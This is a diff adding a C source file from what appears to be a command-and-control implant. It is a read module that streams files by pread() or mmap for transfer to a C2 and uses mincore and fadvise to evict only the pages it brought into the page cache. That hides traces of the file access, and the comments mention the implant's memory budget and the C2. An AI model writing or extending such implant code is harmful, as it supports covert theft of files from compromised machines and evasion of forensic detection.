@@ -0,0 +1,381 @@
+/**
+ * @file readsource.c
+ * @author Kevin McKenzie
+ * @brief pread() and windowed mmap read sources, both with drop behind, see readsource.h.
+ */
+#define _GNU_SOURCE // NOLINT mincore
+
+#include <errno.h>
+#include <fcntl.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include "errors.h"
+#include "mem.h"
+#include "readsource.h"
+#include "utils.h"
+
+static int pread_all(int read_fd, uint8_t *buf, size_t len, uint64_t offset)
+{
+    int err = EMBER_SUCCESS;
+    size_t total = 0;
+
+    while ((EMBER_SUCCESS == err) && (total < len))
+    {
+        ssize_t num_read = pread(read_fd, buf + total, len - total, (off_t)(offset + total));
+        if (0 < num_read)
+        {
+            total += (size_t)num_read;
+        }
+        else if ((0 == num_read) || (EINTR != errno))
+        {
+            // The C2 already has the file size, a short read (file truncated under us) leaves no way to resync.
+            DEBUG_PERROR("pread");
+            err = -EMBER_ERROR;
+        }
+    }
+
+    return err;
+}
+
+enum
+{
+    MIN_PAGE_LEN = 4096,
+    WINDOW_PAGES_MAX = READSOURCE_WINDOW_LEN / MIN_PAGE_LEN,
+};
+
+typedef struct
+{
+    uint8_t *base;   /**< NULL when not mapped */
+    uint64_t offset; /**< File offset of base */
+    size_t len;
+    unsigned char resident[WINDOW_PAGES_MAX]; /**< Page cache residency before the window was read ahead */
+} window_t;
+
+static void set_window(uint64_t offset, uint64_t end, window_t *p_win)
+{
+    p_win->offset = offset;
+    p_win->len = (size_t)MIN(end - offset, (uint64_t)READSOURCE_WINDOW_LEN);
+    p_win->base = NULL;
+}
+
+static void take_residency(const uint8_t *base, window_t *p_win)
+{
+    if (-1 == mincore((void *)base, p_win->len, p_win->resident))
+    {
+        DEBUG_PERROR("mincore");
+        memset(p_win->resident, 1, sizeof(p_win->resident));
+    }
+}
+
+/**
+ * @brief Take the residency of a window read with pread() through a mapping that is never touched and so faults nothing
+ * in, then read the window ahead.
+ */
+static void probe_window(int read_fd, uint64_t offset, uint64_t end, window_t *p_win)
+{
+    set_window(offset, end, p_win);
+
+    uint8_t *base = (uint8_t *)mmap(NULL, p_win->len, PROT_READ, MAP_SHARED, read_fd, (off_t)offset);
+    if (MAP_FAILED == base)
+    {
+        // Nothing counts as brought in by the transfer then, so nothing is dropped
+        DEBUG_PERROR("mmap");
+        memset(p_win->resident, 1, sizeof(p_win->resident));
+        return;
+    }
+    take_residency(base, p_win);
+    if (-1 == munmap(base, p_win->len))
+    {
+        DEBUG_PERROR("munmap");
+    }
+    (void)posix_fadvise(read_fd, (off_t)offset, (off_t)p_win->len, POSIX_FADV_WILLNEED);
+}
+
+/** Drop the runs of pages this transfer brought into the page cache, dirty pages are skipped by the kernel. */
+static void drop_window(int read_fd, const window_t *p_win)
+{
+    size_t page_len = (size_t)sysconf(_SC_PAGESIZE);
+    size_t num_pages = (p_win->len + page_len - 1) / page_len;
+    size_t run_start = 0;
+    for (size_t idx = 0; idx <= num_pages; idx++)
+    {
+        if ((idx < num_pages) && (0 == (p_win->resident[idx] & 1)))
+        {
+            continue;
+        }
+        if (run_start < idx)
+        {
+            (void)posix_fadvise(read_fd, (off_t)(p_win->offset + (run_start * page_len)),
+                                (off_t)((idx - run_start) * page_len), POSIX_FADV_DONTNEED);
+        }
+        run_start = idx + 1;
+    }
+}
+
+static int read_spans(int read_fd, uint8_t *span, uint64_t start, uint64_t end, const io_callback_t *p_stage)
+{
+    int err = EMBER_SUCCESS;
+
+    for (uint64_t pos = start; (EMBER_SUCCESS == err) && (pos < end);)
+    {
+        size_t span_len = (size_t)MIN(end - pos, (uint64_t)READSOURCE_SPAN_LEN);
+
+        err = pread_all(read_fd, span, span_len, pos);
+        if ((EMBER_SUCCESS == err) && ((int)span_len != p_stage->func(p_stage->data, span, (ssize_t)span_len)))
+        {
+            err = -EMBER_ERROR;
+        }
+        pos += span_len;
+    }
+
+    return err;
+}
+
+/** Read window by window, each window's residency taken before it is read ahead. */
+static int read_windows(int read_fd, uint8_t *span, uint64_t offset, uint64_t end, const io_callback_t *p_stage)
+{
+    int err = EMBER_SUCCESS;
+    window_t windows[2] = {0};
+    window_t *p_cur = &windows[0];
+    window_t *p_ahead = &windows[1];
+    probe_window(read_fd, offset - (offset % READSOURCE_WINDOW_LEN), end, p_cur);
+
+    for (uint64_t pos = offset; (EMBER_SUCCESS == err) && (pos < end);)
+    {
+        uint64_t window_end = p_cur->offset + p_cur->len;
+        if (window_end < end)
+        {
+            probe_window(read_fd, window_end, end, p_ahead);
+        }
+
+        err = read_spans(read_fd, span, pos, window_end, p_stage);
+        pos = window_end;
+
+        drop_window(read_fd, p_cur);
+        window_t *p_next = p_ahead;
+        p_ahead = p_cur;
+        p_cur = p_next;
+    }
+
+    return err;
+}
+
+/**
+ * @brief pread() the range into a buffer span by span. Drop behind is left out for ranges under a window, the pages a
+ * small file brings in are not worth the calls.
+ */
+static int for_each_read(int read_fd, uint64_t offset, uint64_t num_bytes, const io_callback_t *p_stage)
+{
+    int err = EMBER_SUCCESS;
+
+    uint8_t *span = (uint8_t *)mem_alloc_fixed(READSOURCE_SPAN_LEN);
+    if (NULL == span)
+    {
+        DEBUG_PERROR("mem_alloc_fixed");
+        err = -EMBER_ERROR;
+    }
+    else if (READSOURCE_WINDOW_LEN > num_bytes)
+    {
+        err = read_spans(read_fd, span, offset, offset + num_bytes, p_stage);
+    }
+    else
+    {
+        // The kernel's own read ahead can reach past the window after the cursor, whose residency is not taken yet
+        (void)posix_fadvise(read_fd, (off_t)offset, (off_t)num_bytes, POSIX_FADV_RANDOM);
+        err = read_windows(read_fd, span, offset, offset + num_bytes, p_stage);
+    }
+
+    mem_free(span);
+    return err;
+}
+
+#if READSOURCE_MMAP
+
+static sigjmp_buf g_fault_env;
+static const uint8_t *volatile g_p_guarded = NULL; /**< Window whose faults unwind to g_fault_env, NULL for none */
+static volatile size_t g_guarded_len = 0;
+
+static void on_sigbus(int sig, siginfo_t *p_info, void *p_context)
+{
+    (void)p_context;
+    const uint8_t *p_addr = (const uint8_t *)p_info->si_addr;
+    const uint8_t *p_guarded = g_p_guarded;
+
+    if ((NULL != p_guarded) && (p_addr >= p_guarded) && (p_addr < (p_guarded + g_guarded_len)))
+    {
+        g_p_guarded = NULL;
+        siglongjmp(g_fault_env, 1);
+    }
+
+    // Not one of ours, the default action ends the process as it would have without this handler
+    (void)signal(sig, SIG_DFL);
+    (void)raise(sig);
+}
+
+static void map_window(int read_fd, uint64_t offset, uint64_t end, window_t *p_win)
+{
+    set_window(offset, end, p_win);
+
+    // Mapped pages are the implant's RSS like a buffer's would be, a window the budget has no room for is read instead
+    if (!mem_reserve(p_win->len))
+    {
+        DEBUG_MSG("no memory for a window");
+        return;
+    }
+
+    p_win->base = (uint8_t *)mmap(NULL, p_win->len, PROT_READ, MAP_SHARED, read_fd, (off_t)offset);
+    if (MAP_FAILED == p_win->base)
+    {
+        DEBUG_PERROR("mmap");
+        p_win->base = NULL;
+        mem_release(p_win->len);
+        return;
+    }
+
+    // Residency has to be taken before the read ahead below brings the whole window in
+    take_residency(p_win->base, p_win);
+
+    // Only a hint, a kernel that ignores it still serves the faults. MADV_SEQUENTIAL and prefaulting the window with
+    // MADV_POPULATE_READ both cost more system time than the faults they save.
+    (void)madvise(p_win->base, p_win->len, MADV_WILLNEED);
+}
+
+static void unmap_window(int read_fd, window_t *p_win)
+{
+    if (NULL == p_win->base)
+    {
+        return;
+    }
+
+    // Mapped pages cannot be dropped, unmap first. Dropping the pages the mapping's page tables held is all
+    // MADV_DONTNEED would do on a shared file mapping, munmap() covers that.
+    if (-1 == munmap(p_win->base, p_win->len))
+    {
+        DEBUG_PERROR("munmap");
+    }
+    p_win->base = NULL;
+    mem_release(p_win->len);
+    drop_window(read_fd, p_win);
+}
+
+static int for_each_span(const window_t *p_win, uint64_t start, uint64_t end, const io_callback_t *p_stage)
+{
+    int err = EMBER_SUCCESS;
+
+    for (uint64_t pos = start; (EMBER_SUCCESS == err) && (pos < end);)
+    {
+        size_t span_len = (size_t)MIN(end - pos, (uint64_t)READSOURCE_SPAN_LEN);
+        uint8_t *span = p_win->base + (pos - p_win->offset);
+
+        if ((int)span_len != p_stage->func(p_stage->data, span, (ssize_t)span_len))
+        {
+            err = -EMBER_ERROR;
+        }
+        pos += span_len;
+    }
+
+    return err;
+}
+
+static int for_each_span_guarded(const window_t *p_win, uint64_t start, uint64_t end, const io_callback_t *p_stage)
+{
+    // Nothing is read after the jump but the return value, so no local needs to be volatile
+    if (0 != sigsetjmp(g_fault_env, 1))
+    {
+        DEBUG_MSG("file truncated during transfer");
+        return -EMBER_ERROR;
+    }
+
+    g_guarded_len = p_win->len;
+    g_p_guarded = p_win->base;
+    int err = for_each_span(p_win, start, end, p_stage);
+    g_p_guarded = NULL;
+
+    return err;
+}
+
+/**
+ * @brief Map the range window by window until it is done or a window cannot be mapped.
+ * @param p_done Set to how much of the range went through, the rest is left to for_each_read()
+ */
+static int for_each_mapped(int read_fd, uint64_t offset, uint64_t num_bytes, const io_callback_t *p_stage,
+                           uint64_t *p_done)
+{
+    struct sigaction bus_action = {.sa_sigaction = on_sigbus, .sa_flags = SA_SIGINFO};
+    struct sigaction old_action = {0};
+    *p_done = 0;
+
+    // Without the handler a truncated file would kill the implant, reading is the safe way then
+    if (-1 == sigaction(SIGBUS, &bus_action, &old_action))
+    {
+        DEBUG_PERROR("sigaction");
+        return EMBER_SUCCESS;
+    }
+
+    int err = EMBER_SUCCESS;
+    uint64_t end = offset + num_bytes;
+    uint64_t pos = offset;
+    window_t windows[2] = {0};
+    window_t *p_cur = &windows[0];
+    window_t *p_ahead = &windows[1];
+    map_window(read_fd, offset - (offset % READSOURCE_WINDOW_LEN), end, p_cur);
+
+    while ((EMBER_SUCCESS == err) && (pos < end) && (NULL != p_cur->base))
+    {
+        uint64_t window_end = p_cur->offset + p_cur->len;
+        if (window_end < end)
+        {
+            map_window(read_fd, window_end, end, p_ahead);
+        }
+
+        err = for_each_span_guarded(p_cur, pos, window_end, p_stage);
+        pos = window_end;
+
+        unmap_window(read_fd, p_cur);
+        window_t *p_next = p_ahead;
+        p_ahead = p_cur;
+        p_cur = p_next;
+    }
+
+    unmap_window(read_fd, p_cur);
+    unmap_window(read_fd, p_ahead);
+
+    if (-1 == sigaction(SIGBUS, &old_action, NULL))
+    {
+        DEBUG_PERROR("sigaction");
+    }
+
+    *p_done = pos - offset;
+    return err;
+}
+
+#endif /* READSOURCE_MMAP */
+
+int readsource_for_each(int read_fd, uint64_t offset, uint64_t num_bytes, const io_callback_t *p_stage)
+{
+    int err = EMBER_SUCCESS;
+    uint64_t done = 0;
+
+#if READSOURCE_MMAP
+    if (READSOURCE_MMAP_MIN <= num_bytes)
+    {
+        err = for_each_mapped(read_fd, offset, num_bytes, p_stage, &done);
+    }
+#endif
+
+    if ((EMBER_SUCCESS == err) && (done < num_bytes))
+    {
+        err = for_each_read(read_fd, offset + done, num_bytes - done, p_stage);
+    }
+
+    return err;
+}
+
+/*** END OF FILE ***/